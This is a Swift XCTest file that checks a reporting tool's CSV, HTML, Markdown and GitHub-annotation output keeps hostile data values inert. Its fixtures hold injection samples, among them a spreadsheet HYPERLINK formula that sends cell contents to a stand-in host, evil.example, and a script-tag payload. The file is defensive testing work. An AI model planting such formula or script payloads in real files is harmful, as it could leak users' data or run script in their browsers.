import Foundation
import XCTest
import DemarcCore
import DemarcEngine
import DemarcReports

/// Values from the data that try to be formulas, markup or workflow commands stay inert text.
final class HostileValueTests: XCTestCase {
    private func hostile() throws -> RunResult { try ReportFixtures.result("Fixtures/reports/hostile.json") }

    /// Parses RFC 4180 text into rows (quoted cells may hold commas, quotes and line breaks).
    private func parseCSV(_ text: String) -> [[String]] {
        var rows: [[String]] = [], row: [String] = [], cell = "", quoted = false
        var chars = Array(text)[...]
        while let c = chars.popFirst() {
            if quoted {
                if c == "\"" {
                    if chars.first == "\"" { cell.append("\""); chars.removeFirst() } else { quoted = false }
                } else { cell.append(c) }
            } else if c == "\"" { quoted = true }
            else if c == "," { row.append(cell); cell = "" }
            else if c == "\r\n" || c == "\n" { row.append(cell); rows.append(row); row = []; cell = "" }
            else { cell.append(c) }
        }
        return rows
    }

    func testASourceTheResultDoesNotListGetsColumnsForEveryValue() throws {
        var result = try hostile()
        var extra = try XCTUnwrap(result.findings.first)
        extra.records = [SourceRecords(source: "extra", records: [FindingRecord(file: "x.csv", line: 2, values: [FieldText("a", "1")])])]
        var second = extra
        second.records[0].records[0].values = [FieldText("b", "2")]
        second.records[0].records[0].raw = "r"
        result.findings = FindingList(Array(result.findings) + [extra, second])
        let rows = parseCSV(try ReportFixtures.render(.csv, result))
        let header = try XCTUnwrap(rows.first)
        XCTAssertEqual(Array(header.suffix(6)), ["extra file", "extra line", "extra.a", "extra.b", "extra raw", "fingerprint"])
        XCTAssertEqual(Array(rows[rows.count - 2].suffix(6).dropLast()), ["x.csv", "2", "1", "", ""])
        XCTAssertEqual(Array(rows[rows.count - 1].suffix(6).dropLast()), ["x.csv", "2", "", "2", "r"])
    }

    func testCSVGuardsFormulasButKeepsPlainNumbers() throws {
        let rows = parseCSV(try ReportFixtures.render(.csv, try hostile()))
        let header = try XCTUnwrap(rows.first)
        func cell(_ key: String, _ column: String) -> String? {
            guard let i = header.firstIndex(of: column) else { return nil }
            return rows.first { $0[3] == key && $0[0] == "amount-owned-by-accounting" || $0[3] == key && $0[0] == "states-agree" }?[i]
        }
        XCTAssertEqual(cell("RE-1", "crm.account"), "'=HYPERLINK(\"http://evil.example/?x=\"&A1;\"click\")")
        XCTAssertEqual(cell("RE-2", "crm.account"), "'@SUM(A1:A9)")
        XCTAssertEqual(cell("RE-3", "crm.account"), "'+1")
        XCTAssertEqual(cell("RE-2", "crm.note"), "'\tleading tab, 50%: done")
        XCTAssertEqual(cell("RE-1", "crm.amount"), "-150.00", "a plain number stays a number")
        XCTAssertEqual(cell("RE-1", "accounting.amount"), "-140.00")
        XCTAssertEqual(cell("RE-3", "crm.note"), "line one\nline two | pipe")
        XCTAssertEqual(rows.map(\.count), Array(repeating: header.count, count: rows.count), "every row has every column")
    }

    func testCSVGuardRules() {
        XCTAssertEqual(CSVReport.guarded("\rx"), "'\rx")
        XCTAssertEqual(CSVReport.guarded("-"), "'-")
        XCTAssertEqual(CSVReport.guarded("-1.5e3"), "'-1.5e3")
        XCTAssertEqual(CSVReport.guarded("-0"), "-0")
        XCTAssertEqual(CSVReport.guarded("a=b"), "a=b")
    }

    func testCSVByteOrderMarkAndCRLF() throws {
        let bytes = try CSVReport().render(try hostile(), options: ReportOptions(csvBOM: true))
        XCTAssertEqual(Array(bytes.prefix(3)), [0xEF, 0xBB, 0xBF])
        XCTAssertEqual(Array(bytes.suffix(2)), [0x0D, 0x0A])
        XCTAssertNotEqual(Array(try CSVReport().render(try hostile(), options: ReportOptions()).prefix(3)), [0xEF, 0xBB, 0xBF])
    }

    func testHTMLEscapesEverythingFromTheData() throws {
        let html = try ReportFixtures.render(.html, try hostile())
        XCTAssertFalse(html.contains("<script>alert(1)</script>"))
        XCTAssertTrue(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"))
        XCTAssertTrue(html.contains("hostile values &lt;b&gt;bold&lt;/b&gt;"))
        XCTAssertEqual(html.components(separatedBy: "<script>").count, 2, "only the report's own script")
        XCTAssertFalse(html.contains("http://") && html.contains("src=\"http"), "no external assets")
        XCTAssertTrue(html.contains("default-src 'none'"))
    }

    func testMarkdownEscapesPipesAndMarkup() throws {
        let md = try ReportFixtures.render(.markdown, try hostile())
        XCTAssertTrue(md.contains("line one<br>line two \\| pipe"), md)
        XCTAssertTrue(md.contains("&lt;script&gt;"))
        XCTAssertFalse(md.contains("<script>"))
        for line in md.split(separator: "\n") where line.hasPrefix("| states-agree") || line.hasPrefix("| open") {
            XCTAssertEqual(line.filter { $0 == "|" }.count - line.components(separatedBy: "\\|").count + 1,
                           line.hasPrefix("| open") ? 7 : 4)
        }
    }

    func testGitHubCommandsEscapeDataAndProperties() throws {
        let gh = try ReportFixtures.render(.github, try hostile())
        let lines = gh.split(separator: "\n").map(String.init)
        XCTAssertEqual(lines.count, 4)
        XCTAssertTrue(lines[0].hasPrefix("::error file=crm.csv,line=3,title=[states-agree] key RE-2::"), lines[0])
        XCTAssertTrue(lines.contains { $0.hasPrefix("::warning file=crm.csv,line=2,") })
        XCTAssertTrue(lines.contains { $0.hasPrefix("::notice file=accounting.csv,line=5,") })
        XCTAssertTrue(gh.contains("50%25%3A done") == false && gh.contains("50%25: done"), "data: % escaped, : kept")
        XCTAssertTrue(gh.contains("line one%0Aline two"))
        XCTAssertEqual(GitHubReport.property("a:b,c%\n"), "a%3Ab%2Cc%25%0A")
    }
}
